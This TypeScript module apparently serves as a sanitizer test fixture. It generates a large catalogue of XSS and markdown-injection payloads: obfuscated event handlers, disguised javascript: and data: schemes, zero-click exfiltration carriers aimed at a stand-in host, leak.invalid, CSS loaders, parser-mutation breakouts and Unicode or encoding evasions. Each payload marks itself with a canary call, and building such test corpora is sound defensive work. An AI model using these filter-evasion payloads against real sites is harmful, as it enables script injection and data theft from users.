// Hostile texts, made by rule: each calls `canary(its number)` when it runs as script, or asks
// `leak.invalid/its number` for something when it is taken for markup. The name can never exist.

export const CANARY = 'canary';
export const LEAK = 'leak.invalid';

/** A text that still wants its number. */
type Make = (call: string, url: string) => string;

const HANDLED: [string, string][] = [
  ['img', 'src=x onerror'],
  ['img', 'src=x: onerror'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['video', 'src=x onerror'],
  ['audio', 'src onerror'],
  ['input', 'autofocus onfocus'],
  ['select', 'autofocus onfocus'],
  ['textarea', 'autofocus onfocus'],
  ['button', 'popovertarget=p onclick'],
  ['details', 'open ontoggle'],
  ['marquee', 'onstart'],
  ['div', 'popover id=p onbeforetoggle'],
  ['a', 'href=x onmouseover'],
  ['p', 'tabindex=1 onfocus'],
  ['b', 'style=animation-name:rise onanimationstart'],
  ['i', 'style=transition:1s ontransitionend'],
  ['object', 'data=x: onerror'],
  ['embed', 'src=x onload'],
  ['iframe', 'onload'],
  ['link', 'rel=stylesheet href=x onerror'],
  ['style', 'onload'],
  ['script', 'src=x onerror'],
  ['x-thing', 'contenteditable autofocus onfocus'],
  ['form', 'onformdata'],
  ['dialog', 'open onclose'],
  ['math', 'onclick'],
];

/** How a tag with a handler may be written so that a filter overlooks it. */
const WRITINGS: ((tag: string, handler: string, call: string) => string)[] = [
  (t, h, c) => `<${t} ${h}="${c}">`,
  (t, h, c) => `<${t.toUpperCase()} ${h.replace('on', 'oN')}='${c}'>`,
  (t, h, c) => `<${t}/${h.replaceAll(' ', '/')}=${c}>`,
  (t, h, c) => `<${t}\n${h.replaceAll(' ', '\n')}\t=\n${c}\n//`,
  (t, h, c) => `"'><${t} ${h}=\`${c}\`>`,
  (t, h, c) => `&lt;${t} ${h}=&quot;${c}&quot;&gt;`,
  (t, h, c) => `<${t} a=">" ${h}="${c.replace('(', '&lpar;')}" b="<">`,
  (t, h, c) => `<<${t} ${h}="${entities(c)}"></${t}<`,
];

const entities = (text: string) =>
  [...text].map((c, i) => (i % 2 ? `&#${c.charCodeAt(0)};` : `&#x${hex(c)}`)).join('');
const hex = (c: string) => c.charCodeAt(0).toString(16);
const percent = (text: string) => [...text].map((c) => `%${hex(c).padStart(2, '0')}`).join('');
const mixed = (text: string) =>
  [...text].map((c, i) => (i % 2 ? c.toUpperCase() : c.toLowerCase())).join('');

/** Disguises of the scheme of an address. */
const SCHEMES: ((scheme: string) => string)[] = [
  (s) => `${s}:`,
  (s) => `${s.toUpperCase()}:`,
  (s) => `${mixed(s)}:`,
  (s) => ` ${s}:`,
  (s) => `${s.slice(0, 4)}\t${s.slice(4)}:`,
  (s) => `${s.slice(0, 4)}\n${s.slice(4)}:`,
  (s) => `${s.slice(0, 2)}&Tab;${s.slice(2)}:`,
  (s) => `${s.slice(0, 2)}&NewLine;${s.slice(2)}&colon;`,
  (s) => `${entities(s)}&#58;`,
  (s) => `&#1;${s}:`,
  (s) => `${percent(s)}%3A`,
  (s) => `${s}%0a:`,
  (s) => `\u200b${s}\u2060:`,
  (s) => `${s}\uff1a`,
  (s) => `\u202e${s}:`,
  (s) => `${s}\u00ad:`,
  (s) => `\\${s}:`,
  (s) => `//x@${s}:`,
];

/** Where an address may stand. */
const PLACES: ((address: string) => string)[] = [
  (a) => `[look](${a})`,
  (a) => `[look](<${a}>)`,
  (a) => `[look](${a} "a title")`,
  (a) => `![look](${a})`,
  (a) => `<${a}>`,
  (a) => `[look][r]\n\n[r]: ${a}`,
  (a) => `[r]\n\n[r]: <${a}> 'a title'`,
  (a) => `<a href="${a}">look</a>`,
  (a) => `<iframe src='${a}'></iframe>`,
  (a) => `<form action=${a}><button>go</button></form>`,
  (a) => `<svg><a xlink:href="${a}"><text y=9>look</text></a></svg>`,
  (a) => `[![look](${a})](${a})`,
];

const schemed = (): Make[] =>
  SCHEMES.flatMap((disguise, i) =>
    [0, 1, 2, 3, 4].flatMap((k): Make[] => {
      const place = PLACES[(i + k * 5) % PLACES.length]!;
      const other = ['vbscript', 'livescript', 'data', 'blob', 'filesystem'][k]!;
      return [
        (call) => place(`${disguise('javascript')}${call}`),
        (call) =>
          place(
            other === 'data'
              ? `${disguise('data')}text/html,<script>${call}</script>`
              : `${disguise(other)}${call}`,
          ),
      ];
    }),
  );

/** Pictures and links that would carry something out without a click. */
const CARRIERS: Make[] = [
  (_, url) => `![pixel](${url}?stolen)`,
  (_, url) => `![pixel](${url.slice(6)})`,
  (_, url) => `![pixel][p]\n\n[p]: ${url}`,
  (_, url) => `![pixel][]\n\n[pixel]: <${url}> "t"`,
  (_, url) => `[![pixel](${url}/a.png)](${url})`,
  (_, url) => `<img src="${url}">`,
  (_, url) => `<img srcset="${url} 1x, ${url}/b 2x">`,
  (_, url) => `<picture><source srcset=${url}><img></picture>`,
  (_, url) => `<input type=image src=${url}>`,
  (_, url) => `<video poster=${url}></video>`,
  (_, url) => `<audio autoplay src=${url}></audio>`,
  (_, url) => `<video><track default src=${url}></video>`,
  (_, url) => `<body background=${url}>`,
  (_, url) => `<table background=${url}><td background=${url}>`,
  (_, url) => `<object data=${url}></object>`,
  (_, url) => `<embed src=${url}>`,
  (_, url) => `<iframe src=${url}></iframe>`,
  (_, url) => `<frameset><frame src=${url}></frameset>`,
  (_, url) => `<portal src=${url}></portal>`,
  (_, url) => `<svg><image href=${url} /></svg>`,
  (_, url) => `<svg><use href="${url}#x"/></svg>`,
  (_, url) => `<svg><feImage href=${url} /></svg>`,
  (_, url) => `<bgsound src=${url}>`,
  (_, url) => `<link rel=stylesheet href=${url}>`,
  (_, url) => `<link rel=preload as=image href=${url}>`,
  (_, url) => `<link rel=prefetch href=${url}>`,
  (_, url) => `<link rel=preconnect href=${url}>`,
  (_, url) => `<link rel=dns-prefetch href=${url.slice(6)}>`,
  (_, url) => `<link rel=modulepreload href=${url}>`,
  (_, url) => `<link rel=manifest href=${url}>`,
  (_, url) => `<link rel=icon href=${url}>`,
  (_, url) => `<script src=${url}></script>`,
  (_, url) => `<script type=module>import '${url}'</script>`,
  (_, url) => `<script type=importmap>{"imports":{"a":"${url}"}}</script>`,
  (_, url) =>
    `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${url}"]}]}</script>`,
  (_, url) => `<meta http-equiv=refresh content="0;url=${url}">`,
  (call) => `<meta http-equiv=refresh content="0;javascript:${call}">`,
  (_, url) => `<meta http-equiv=content-security-policy content="report-uri ${url}">`,
  (_, url) => `<base href=${url}/>`,
  (_, url) => `<base target=_blank><a ping=${url} href=${url}>look</a>`,
  (_, url) => `<form action=${url} id=f><input name=q></form><input form=f autofocus>`,
  (_, url) => `<button formaction=${url}>go</button>`,
  (_, url) => `<isindex action=${url}>`,
  (_, url) => `<html manifest=${url}>`,
  (_, url) => `<img lowsrc=${url} dynsrc=${url} longdesc=${url}>`,
  (_, url) => `<img src='${url}?`,
  (_, url) => `<textarea form=f name=q></textarea><input type=submit formaction='${url}?`,
  (_, url) => `<template shadowrootmode=open><img src=${url}></template>`,
  (_, url) => `[look](${url} =100x)\n<${url}>\n${url}\nwww.${LEAK}/x`,
];

const STYLES: Make[] = [
  (_, url) => `<style>@import '${url}';</style>`,
  (_, url) => `<style>*{background:url(${url})}</style>`,
  (_, url) => `<style>input[value^=a]{background:url(${url})}</style>`,
  (_, url) => `<style>@font-face{font-family:x;src:url(${url})}*{font-family:x}</style>`,
  (call) => `<style>*{width:expression(${call})}</style>`,
  (_, url) => `<style>*{-moz-binding:url(${url}#x)}</style>`,
  (_, url) => `<style>@\\69mport '${url}';</style>`,
  (_, url) => `<p style="background:url(${url})">p</p>`,
  (_, url) => `<p style="list-style:url('${url}')">p</p>`,
  (_, url) => `<p style="content:image-set('${url}' 1x)">p</p>`,
  (call) => `<p style="width:expres/**/sion(${call})">p</p>`,
  (call) => `<p style="behavior:url(javascript:${call})">p</p>`,
  (_, url) => `<p style="position:fixed;inset:0;cursor:url(${url}),auto">p</p>`,
  (_, url) => `<svg><style>@import url(${url});</style></svg>`,
  (_, url) => `<svg><rect fill="url(${url}#x)" filter="url(${url})" width=9 height=9 /></svg>`,
];

/** Elements between which parsers change their rules, so that text turns into markup. */
const OUTER = ['svg', 'math', 'select', 'table', 'noscript', 'template', 'textarea', 'title'];
const INNER = ['style', 'mtext', 'desc', 'foreignObject', 'mglyph', 'xmp', 'noembed', 'option'];
const mutating = (): Make[] =>
  OUTER.flatMap((outer, i) =>
    INNER.map((inner, k): Make =>
      (i + k) % 2
        ? (call) =>
            `<${outer}><${inner}><a title="</${inner}></${outer}><img src=x onerror=${call}>">`
        : (call) =>
            `<${outer}></p><${inner}><!--</${inner}><img src=x onerror=${call}>--></${outer}>`,
    ),
  );

const VECTORS: Make[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<script\n>${call}</script\n>`,
  (call) => `<scr<script>ipt>${call}</scr</script>ipt>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><script>${entities(call)}</script></svg>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<svg><a><animate attributeName=href values=javascript:${call} /><text>x</text></a>`,
  (call) => `<svg><set attributeName=onmouseover to=${call}>`,
  (call) => `<svg><foreignObject><body onload=${call}></foreignObject></svg>`,
  (call) => `<svg><use href="data:image/svg+xml,<svg id=x><script>${call}</script></svg>#x">`,
  (call) => `<math href=javascript:${call}>click</math>`,
  (call) => `<math><maction actiontype=statusline xlink:href=javascript:${call}>x</maction></math>`,
  (call) => `<math><annotation-xml encoding=text/html><img src=x onerror=${call}></math>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call) => `<iframe srcdoc="&lt;script&gt;top.${call}&lt;/script&gt;"></iframe>`,
  (call) => `<object data="data:text/html,<script>opener.${call}</script>"></object>`,
  (call) => `<embed code=javascript:${call}>`,
  (call) => `<template shadowrootmode=open><img src=x onerror=${call}></template>`,
  (call) => `<?xml-stylesheet href="javascript:${call}"?>`,
  (call) => `<!--><img src=x onerror=${call}>-->`,
  (call) => `<!-- --!><img src=x onerror=${call}> -->`,
  (call) => `<![CDATA[<img src=x onerror=${call}>]]>`,
  (call) => `<!DOCTYPE x [<!ENTITY e "${call}">]>&e;`,
  (call) => `</script><script>${call}//`,
  (call) => `</title></textarea></style><img src=x onerror=${call}>`,
  (call) => `';${call};//";${call};//\`;${call};//`,
  (call) => `\${${call}}`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `{@html '<img src=x onerror=${call}>'}`,
  (call) => `{${call}}`,
  (call) => `<%= ${call} %><? ${call} ?>#{${call}}`,
  (call) => `<div v-html="'<img src=x onerror=${call}>'" x-data x-init=${call} ng-init=${call}>`,
  (call) => `<div data-sveltekit-reload hx-on:load=${call} hx-trigger=load hx-get=/x></div>`,
  (call) => `trustedTypes.createPolicy('default',{createHTML:s=>s});${call}`,
  (call) => `<img name=trustedTypes><form id=__sveltekit><input name=base value=${call}></form>`,
  (call) => `<a id=defaultView><a id=defaultView name=location href=javascript:${call}>`,
  (call) => `{"__proto__":{"innerHTML":"<img src=x onerror=${call}>"}}`,
  (call) => `\\u003cimg src=x onerror=${call}\\u003e`,
  (call) => `\\x3cscript\\x3e${call}\\x3c/script\\x3e`,
  (call) => `${percent('<script>')}${call}${percent('</script>')}`,
  (call) => `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  (call) => `\uff1cscript\uff1e${call}\uff1c/script\uff1e`,
  (call) => `\u2039script\u203a${call}\u2039/script\u203a`,
  (call) => `<\u200bscript>${call}</\u200bscript><s\u0441ript>${call}</s\u0441ript>`,
  (call) => `\u202e<img src=x onerror=${call}>\u202c \u2066<svg onload=${call}>\u2069`,
  (call) => `\ufeff<script>${call}</script>\u2028<script>${call}</script>\u2029`,
  (call) => `<img\u3000src=x\u3000onerror=${call}><img\u00a0onerror=${call}>`,
  (call) => `<\u{e0073}cript>${call}</script>`,
  (call) => `a\u0301<img src=x onerror=${call}>\u0301\u20dd`,
  (call) => `data:text/html;base64,${btoa(`<script>${call}</script>`)}`,
  (call) => `<a href=data:text/html;base64,${btoa(`<script>${call}</script>`)}>look</a>`,
];

/** Markdown around markup: each construct has a reader of its own. */
const WRAPS: ((inner: string) => string)[] = [
  (x) => `# ${x}`,
  (x) => `> ${x}\n>\n> — ${x}`,
  (x) => `- [ ] ${x}\n- [x] ${x}`,
  (x) => `1. ${x}\n\n   ${x}`,
  (x) => `| ${x} | b |\n|---|---|\n| a | ${x} |`,
  (x) => `\`${x}\``,
  (x) => `\`\`\`html ${x}\n${x}\n\`\`\``,
  (x) => `~~~\n${x}`,
  (x) => `    ${x}`,
  (x) => `**${x} _${x} ~~${x}`,
  (x) => `words[^1]\n\n[^1]: ${x}`,
  (x) => `[a][b]\n\n[b]: https://${LEAK} "${x}"`,
  (x) => `[${x}](https://${LEAK} '${x}')`,
  (x) => `![${x}](https://${LEAK})`,
  (x) => `<div>\n\n${x}\n\n</div>`,
  (x) => `\\<b>${x}\\</b>`,
  (x) => `[1]: <${x}>\n\n[1] [2]`,
  (x) => `Setext ${x}\n===`,
];

const wrapped = (): Make[] =>
  WRAPS.flatMap((wrap): Make[] => [
    (call) => wrap(`<img src=x onerror=${call}>`),
    (call) => wrap(`[x](javascript:${call})`),
    (_, url) => wrap(`![](${url})<script src=${url}></script>`),
    (call, url) => wrap(`</p><a href="${url}" onclick=${call}>x`),
  ]);

const makes: Make[] = [
  ...HANDLED.flatMap(([tag, handler]) =>
    WRITINGS.map(
      (write): Make =>
        (call) =>
          write(tag, handler, call),
    ),
  ),
  ...schemed(),
  ...CARRIERS,
  ...STYLES,
  ...mutating(),
  ...VECTORS,
  ...wrapped(),
];

/** The number of the text is in it, so that whatever runs says where it came from. */
export const PAYLOADS: readonly string[] = makes.map((make, n) =>
  make(`${CANARY}(${n})`, `https://${LEAK}/${n}`),
);
